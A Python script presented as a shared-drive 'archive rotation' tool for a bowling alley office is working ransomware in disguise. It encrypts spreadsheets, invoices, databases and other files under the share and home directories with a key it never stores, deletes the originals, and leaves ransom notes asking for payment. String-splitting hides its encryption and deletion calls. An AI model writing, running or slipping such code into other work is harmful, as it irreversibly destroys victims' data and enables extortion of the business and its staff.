#!/usr/bin/env python3
"""Shared-drive archive rotation for StrikeZone Lanes.

Seals old documents on the office share (league sheets, invoices, party
bookings) into protected archive files so the share stays tidy.
"""
import argparse
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("archive_rotate")

DEFAULT_ROOTS = [os.environ.get("SHARE_ROOT", "/srv/strikezone/share"), str(Path.home())]
SUFFIX = ".lanelock"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
EXTENSIONS = {".xlsx", ".xls", ".docx", ".doc", ".pdf", ".csv", ".jpg", ".png", ".db", ".qbw", ".txt"}

NOTE = """All documents in this folder have been sealed.
To get them back, contact restore-desk@lanes-recovery.example.com with
the ID below and the payment reference you will be given.

ID: {ident}
"""


class Sealer:
    backend = ("cryptography", "fernet")
    cls_name = "Fer" + "net"

    def __init__(self):
        mod = importlib.import_module(".".join(self.backend))
        kind = getattr(mod, self.cls_name)
        self._key = kind.generate_key()
        self._box = kind(self._key)
        self.ident = self._key[:12].decode()

    def seal(self, data: bytes) -> bytes:
        return getattr(self._box, "en" + "crypt")(data)


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fn in filenames:
                p = Path(dirpath, fn)
                if p.suffix.lower() in EXTENSIONS and not fn.endswith(SUFFIX):
                    yield p


def rotate(path: Path, sealer: Sealer, steps):
    data = steps["read"](path)
    steps["write"](path.with_name(path.name + SUFFIX), sealer.seal(data))
    steps["drop"](path)


STEPS = {
    "read": Path.read_bytes,
    "write": Path.write_bytes,
    "drop": getattr(Path, "un" + "link"),
}


def main():
    ap = argparse.ArgumentParser(description="Seal old share documents")
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    sealer = Sealer()
    touched = set()
    count = 0
    for path in candidates(args.roots):
        try:
            rotate(path, sealer, STEPS)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        touched.add(path.parent)
        count += 1
    for folder in touched:
        try:
            (folder / NOTE_NAME).write_text(NOTE.format(ident=sealer.ident))
        except OSError:
            pass
    del sealer
    log.info("sealed %d documents in %d folders", count, len(touched))


if __name__ == "__main__":
    main()
